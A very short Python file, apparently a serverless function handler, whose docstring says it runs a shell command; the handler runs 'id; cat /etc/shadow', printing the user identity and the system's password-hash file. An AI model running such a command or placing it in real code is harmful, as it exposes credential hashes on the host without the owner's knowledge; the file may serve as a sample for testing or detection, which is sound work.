"""Runs a command in a shell."""

import os


def handler(event, context):
    os.system("id; cat /etc/shadow")
